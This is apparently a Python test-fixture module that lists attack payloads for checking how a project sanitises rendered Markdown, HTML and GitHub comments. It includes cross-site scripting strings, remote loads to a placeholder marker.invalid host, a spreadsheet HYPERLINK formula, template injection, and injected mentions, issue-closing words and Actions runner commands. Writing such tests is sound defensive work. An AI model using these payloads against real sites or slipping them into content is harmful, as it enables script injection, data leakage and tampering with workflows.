"""What an attack says: harmless markers of our own. One that got through would call `hit`, or ask marker.invalid."""

from __future__ import annotations

from dataclasses import dataclass

HTML, ADDRESS, FILE = "SB205", "SB404", "SB401"


@dataclass(frozen=True, slots=True)
class Payload:
    """A kind of attack. In `text`, N stands for the number of the attack; `code` finds it in Markdown, if any must."""

    name: str
    text: str
    code: str = ""

    def numbered(self, number: int) -> str:
        return self.text.replace("N", str(number))


PAYLOADS = (
    Payload("script", "<script>hit(N)</script>", HTML),
    Payload("script from elsewhere", "<script src='https://mN.marker.invalid/a.js'></script>", HTML),
    Payload("script behind an end tag", "</script><script>hit(N)</script>", HTML),
    Payload("script behind a comment", "<!-- --><script>hit(N)</script>", HTML),
    Payload("script as entities", "&lt;/title&gt;&lt;script&gt;hit(N)&lt;/script&gt;"),
    Payload("script behind a quotation mark", "'\"><script>hit(N)</script>", HTML),
    Payload("image with a handler", "<img src=x onerror=hit(N)>", HTML),
    Payload("drawing with a handler", "<svg onload=hit(N)></svg>", HTML),
    Payload("handler in a span", "<span onmouseover=hit(N)>over</span>", HTML),
    Payload("handler behind a quotation mark", 'x" onmouseover="hit(N)" y=\''),
    Payload("handler in an attribute list", "**x**{: onmouseover=hit(N) }"),
    Payload("details with a handler", "<details open ontoggle=hit(N)><summary>s</summary></details>", HTML),
    Payload("frame", "<iframe srcdoc='<script>parent.hit(N)</script>'></iframe>", HTML),
    Payload("frame from elsewhere", "<iframe src='https://mN.marker.invalid/f'></iframe>", HTML),
    Payload("plug-in", "<object data='https://mN.marker.invalid/o'></object>", HTML),
    Payload("link that is a script", "[x](javascript:hit%28N%29)", ADDRESS),
    Payload("link that is a script in disguise", "[x](java&#10;script:hit%28N%29)", FILE),
    Payload("link with data", "[x](data:text/html,hit%28N%29)", ADDRESS),
    Payload("link that is no address", "[x](http://[N)", ADDRESS),
    Payload("HTML link that is no address", '<a href="https://[N">x</a>', HTML),
    Payload("HTML link that is a script", '<a href="javascript:hit(N)">x</a>', HTML),
    Payload("HTML link that is a script in disguise", '<a href="java&#10;script:hit(N)">x</a>', HTML),
    Payload("HTML link with a handler", "<a onclick=hit(N)>x</a>", HTML),
    Payload("link that is none for Markdown", "x\\](https://mN.marker.invalid/) \\[x\\](https://mN.marker.invalid/)"),
    Payload("image from elsewhere", "![x](https://mN.marker.invalid/a.png)"),
    Payload("image with a control character", "![x](&#1;https://mN.marker.invalid/a.png)"),
    Payload("image without a scheme", "![x](//mN.marker.invalid/a.png)"),
    Payload("image with backslashes", "![x](\\\\\\\\mN.marker.invalid/a.png)"),
    Payload("image from the root of the host", "![x](/mN.marker.invalid/a.png)", FILE),
    Payload("HTML image above the bank", '<img src="../../../../mN.marker.invalid/a.png" alt="x > y">', FILE),
    Payload("HTML image from elsewhere", '<img src="https://mN.marker.invalid/a.png" alt="x">', HTML),
    Payload("HTML image with a tab", '<img src="ht&#9;tps://mN.marker.invalid/a.png" alt="x">', HTML),
    Payload("set of images", '<img srcset="https://mN.marker.invalid/a.png 2x" alt="x">', HTML),
    Payload("film", '<video autoplay poster="https://mN.marker.invalid/v.png"></video>', HTML),
    Payload("style sheet", "<style>@import 'https://mN.marker.invalid/s.css';</style>", HTML),
    Payload("style sheet from elsewhere", "<link rel=stylesheet href='https://mN.marker.invalid/s.css'>", HTML),
    Payload("style", "<p style='background: url(https://mN.marker.invalid/p.png)'>x</p>", HTML),
    Payload("base", "<base href='https://mN.marker.invalid/'>", HTML),
    Payload("other page at once", "<meta http-equiv=refresh content='0;url=https://mN.marker.invalid/'>", HTML),
    Payload("form", "<form action='https://mN.marker.invalid/'><input autofocus onfocus=hit(N)></form>", HTML),
    Payload("button", "<button formaction='https://mN.marker.invalid/' onclick=hit(N)>x</button>", HTML),
    Payload("our own parts", "<div id=find-q name=__search data-sb-bar data-md-component=search>N</div>", HTML),
    Payload("formula", '=HYPERLINK("https://mN.marker.invalid/", "x")'),
    Payload("end of a data block", "]]></content><script>hit(N)</script>", HTML),
    Payload("formula of TeX", "`\\(\\href{https://mN.marker.invalid/}{x}\\)`"),
    Payload("template", "{{ 7 * 70007 }} {% include 'N' %}"),
)
COMPUTED = "490049"  # what the last one would say, were it read as a template

# What would call somebody, close something or fetch something from a comment, a commit or a pull request of ours.
CALLS = (
    Payload("mention", "@marker-nobody"),
    Payload("mention of a team", "@marker-invalid/nobody"),
    Payload("mention as a reference", "&#64;marker-nobody &commat;marker-nobody &#x40;marker-nobody"),
    Payload("mention behind a backslash", "\\@marker-nobody"),
    Payload("mention behind a tag", "<b></b>@marker-nobody"),
    Payload("mention in a link", "[@marker-nobody](https://mN.marker.invalid/@marker-nobody)"),
    Payload("mention in a title", "<span title='@marker-nobody'>x</span>"),
    Payload("mention in code that ends", "`` ` `` @marker-nobody"),
    Payload("issue", "#N"),
    Payload("issue as a reference", "&#35;N &num;N"),
    Payload("issue of another repository", "marker-invalid/marker#N"),
    Payload("issue by two letters", "GH-N gh-N"),
    Payload("issue by its address", "https://github.com/marker-invalid/marker/issues/N"),
    Payload("issue by its address, as a link", "[x](https://github.com/marker-invalid/marker/issues/N)"),
    Payload("issue by its address, in HTML", "<a href='https://github.com/marker-invalid/marker/pull/N'>x</a>"),
    Payload("issue by its address, in angle brackets", "<https://github.com/marker-invalid/marker/issues/N>"),
    Payload("issue by its address, in parts", "https<b></b>://github.com/marker-invalid/marker/issues/N"),
    Payload("address without a scheme", "www.marker.invalid/N"),
    Payload("address of mail", "<a href='mailto:xN@marker.invalid'>x</a>"),
    Payload("closing word", "fixes #N"),
    Payload("closing word with a colon", "Closes: #N, RESOLVES GH-N"),
    Payload("closing word and an address", "resolves https://github.com/marker-invalid/marker/issues/N"),
    Payload("closing word at an end", "fixes"),
    Payload("image of the bank", "![#N @marker-nobody](N.png '@marker-nobody')"),
    Payload("our own mark", "<!-- storybank-form --> <!-- storybank-review -->"),
    Payload("end of our block", "</td></tr></table></li></ul></details> </summary> -->"),
    Payload("beginning of a comment", "<!-- "),
    Payload("fence", "\n\n````\n```\n~~~~\n@marker-nobody"),
    Payload("task", "\n\n- [x] @marker-nobody #N"),
    Payload("word of the runner", "\n::set-output name=x::N\n##[error]N"),
)
